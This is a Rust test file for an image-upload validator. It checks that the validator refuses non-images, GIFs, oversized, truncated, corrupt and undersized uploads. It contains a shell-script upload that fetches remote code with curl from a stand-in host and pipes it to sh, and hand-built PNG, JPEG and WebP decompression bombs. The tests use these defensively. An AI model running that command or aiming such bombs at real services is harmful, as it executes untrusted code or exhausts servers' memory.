//! Uploads that are refused, each with its reason, and without decoding what must not be.

use jinguo_imaging::{ImageRefused, MAX_SOURCE_PIXELS, MAX_UPLOAD_BYTES, process};

use crate::support::{crc32, jpeg, png, png_chunk, scene, webp};

#[test]
fn a_script_named_jpg_is_not_an_image() {
    let upload = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n";
    assert_eq!(process(upload, None), Err(ImageRefused::NotAnImage));
}

#[test]
fn an_empty_upload_is_not_an_image() {
    assert_eq!(process(b"", None), Err(ImageRefused::NotAnImage));
}

#[test]
fn a_gif_is_refused_as_unsupported() {
    let upload = b"GIF89a\x20\x03\xbd\x01\x80\0\0";
    assert_eq!(
        process(upload, None),
        Err(ImageRefused::UnsupportedFormat { format: "GIF" })
    );
}

#[test]
fn an_upload_over_20_mib_is_refused_before_reading_it() {
    let upload = vec![0u8; MAX_UPLOAD_BYTES + 1];
    assert_eq!(
        process(&upload, None),
        Err(ImageRefused::TooLarge {
            bytes: MAX_UPLOAD_BYTES + 1,
            max: MAX_UPLOAD_BYTES
        })
    );
}

/// A PNG whose header claims 30000×30000 (900 megapixels, 2.7 GB of RGB) around a few bytes
/// of compressed data: the classic decompression bomb.
fn png_bomb() -> Vec<u8> {
    let mut ihdr = Vec::new();
    ihdr.extend_from_slice(&30_000u32.to_be_bytes());
    ihdr.extend_from_slice(&30_000u32.to_be_bytes());
    ihdr.extend_from_slice(&[8, 2, 0, 0, 0]); // 8-bit RGB, deflate, no filter, no interlace
    let mut bytes = b"\x89PNG\r\n\x1a\n".to_vec();
    bytes.extend_from_slice(&png_chunk(b"IHDR", &ihdr));
    bytes.extend_from_slice(&png_chunk(b"IDAT", &[0x78, 0x9c, 0x63, 0, 0, 0, 1, 0, 1]));
    bytes.extend_from_slice(&png_chunk(b"IEND", &[]));
    bytes
}

#[test]
fn the_png_bomb_header_is_well_formed() {
    // The refusal below must come from the size, not from a broken header.
    let bomb = png_bomb();
    let ihdr = &bomb[8..8 + 25];
    let crc = u32::from_be_bytes(ihdr[21..25].try_into().unwrap());
    assert_eq!(crc, crc32(&ihdr[4..21]));
    let reader =
        image::ImageReader::with_format(std::io::Cursor::new(&bomb), image::ImageFormat::Png);
    assert_eq!(reader.into_dimensions().unwrap(), (30_000, 30_000));
}

#[test]
fn a_png_claiming_30000_by_30000_is_refused_from_its_header() {
    assert_eq!(
        process(&png_bomb(), None),
        Err(ImageRefused::TooManyPixels {
            width: 30_000,
            height: 30_000,
            max_pixels: MAX_SOURCE_PIXELS
        })
    );
}

#[test]
fn a_jpeg_claiming_30000_by_30000_is_refused_from_its_header() {
    // SOI, a baseline frame header for 30000×30000 with three components, EOI: no pixel data.
    let mut bomb = vec![0xFF, 0xD8, 0xFF, 0xC0, 0x00, 0x11, 0x08];
    bomb.extend_from_slice(&30_000u16.to_be_bytes());
    bomb.extend_from_slice(&30_000u16.to_be_bytes());
    bomb.extend_from_slice(&[0x03, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1]);
    bomb.extend_from_slice(&[0xFF, 0xD9]);
    assert_eq!(
        process(&bomb, None),
        Err(ImageRefused::TooManyPixels {
            width: 30_000,
            height: 30_000,
            max_pixels: MAX_SOURCE_PIXELS
        })
    );
}

#[test]
fn a_webp_claiming_30000_by_30000_is_refused_from_its_header() {
    // An extended (VP8X) header with a 30000×30000 canvas, then a tiny lossless image chunk.
    let mut vp8x = vec![0u8; 4];
    vp8x.extend_from_slice(&(30_000u32 - 1).to_le_bytes()[..3]);
    vp8x.extend_from_slice(&(30_000u32 - 1).to_le_bytes()[..3]);
    let mut vp8l = vec![0x2f];
    vp8l.extend_from_slice(&0u32.to_le_bytes()); // 1×1, no alpha, version 0
    vp8l.extend_from_slice(&[0; 3]);
    let mut body = b"WEBP".to_vec();
    for (kind, data) in [(b"VP8X", &vp8x), (b"VP8L", &vp8l)] {
        body.extend_from_slice(kind);
        body.extend_from_slice(&u32::try_from(data.len()).unwrap().to_le_bytes());
        body.extend_from_slice(data);
    }
    let mut bomb = b"RIFF".to_vec();
    bomb.extend_from_slice(&u32::try_from(body.len()).unwrap().to_le_bytes());
    bomb.extend_from_slice(&body);
    assert_eq!(
        process(&bomb, None),
        Err(ImageRefused::TooManyPixels {
            width: 30_000,
            height: 30_000,
            max_pixels: MAX_SOURCE_PIXELS
        })
    );
}

#[test]
fn a_truncated_jpeg_is_refused() {
    let whole = jpeg(&scene(1600, 1000, 7), 90);
    for keep in [whole.len() * 6 / 10, whole.len() - 2] {
        assert_eq!(
            process(&whole[..keep], None),
            Err(ImageRefused::Truncated),
            "cut at {keep} of {}",
            whole.len()
        );
    }
}

#[test]
fn a_jpeg_cut_inside_its_header_is_refused_as_truncated() {
    let whole = jpeg(&scene(1600, 1000, 8), 90);
    assert_eq!(process(&whole[..100], None), Err(ImageRefused::Truncated));
}

#[test]
fn a_truncated_png_is_refused() {
    let whole = png(&scene(1000, 700, 9));
    assert_eq!(
        process(&whole[..whole.len() * 6 / 10], None),
        Err(ImageRefused::Truncated)
    );
}

#[test]
fn a_corrupt_jpeg_is_refused_with_a_decode_error() {
    let mut upload = jpeg(&scene(1000, 700, 10), 90);
    // Overwrite the frame header's precision and size with nonsense.
    let sof = upload.windows(2).position(|w| w == [0xFF, 0xC0]).unwrap();
    upload[sof + 4] = 3;
    assert!(matches!(
        process(&upload, None),
        Err(ImageRefused::Decode { .. })
    ));
}

#[test]
fn a_700_by_400_photo_is_refused_as_too_small() {
    assert_eq!(
        process(&jpeg(&scene(700, 400, 11), 90), None),
        Err(ImageRefused::TooSmall {
            width: 700,
            height: 400
        })
    );
}

#[test]
fn the_minimum_size_is_750_by_445_exactly() {
    assert!(process(&png(&scene(750, 445, 12)), None).is_ok());
    assert_eq!(
        process(&png(&scene(750, 444, 12)), None),
        Err(ImageRefused::TooSmall {
            width: 750,
            height: 444
        })
    );
}

#[test]
fn a_truncated_webp_is_refused() {
    let whole = webp(&scene(1000, 700, 9));
    for keep in [40, whole.len() / 2, whole.len() - 1] {
        assert_eq!(
            process(&whole[..keep], None),
            Err(ImageRefused::Truncated),
            "cut at {keep} of {}",
            whole.len()
        );
    }
}
